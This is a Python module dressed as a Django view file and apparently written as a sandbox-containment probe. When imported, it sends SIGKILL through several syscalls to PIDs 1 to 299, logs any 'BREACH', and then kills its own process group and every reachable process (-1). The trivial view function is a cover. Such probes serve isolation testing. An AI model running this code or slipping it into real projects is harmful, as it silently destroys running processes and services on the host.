import contextlib
import ctypes
import errno
import os
import signal

from django.http import HttpResponse

libc = ctypes.CDLL(None, use_errno=True)
TGKILL, TKILL = {"x86_64": (234, 200), "aarch64": (131, 130)}[os.uname().machine]
PIDFD_OPEN, PIDFD_SEND = 434, 424
told = set()


def by_descriptor(pid):
    descriptor = libc.syscall(PIDFD_OPEN, pid, 0)
    return descriptor if descriptor < 0 else libc.syscall(PIDFD_SEND, descriptor, 9, None, 0)


for pid in range(1, 300):
    if pid == os.getpid():
        continue
    for name, result in {
        "kill": libc.kill(pid, 9),
        "tgkill": libc.syscall(TGKILL, pid, pid, 9),
        "tkill": libc.syscall(TKILL, pid, 9),
        "pidfd": by_descriptor(pid),
    }.items():
        if result == 0:
            print("BREACH", name, pid)
for name, call in {
    "kill": lambda: libc.kill(1, 9),
    "tgkill": lambda: libc.syscall(TGKILL, 1, 1, 9),
    "pidfd": lambda: by_descriptor(1),
}.items():
    call()
    told.add(f"{name} {errno.errorcode[ctypes.get_errno()]}")
print(*sorted(told), sep="\n", flush=True)
# All at once, itself among them. What the kernel answers says nothing: it is success, too, when
# each of them has refused.
for everybody in (0, -os.getpgrp(), -1):
    with contextlib.suppress(OSError):
        os.kill(everybody, signal.SIGKILL)


def view(request):
    return HttpResponse()
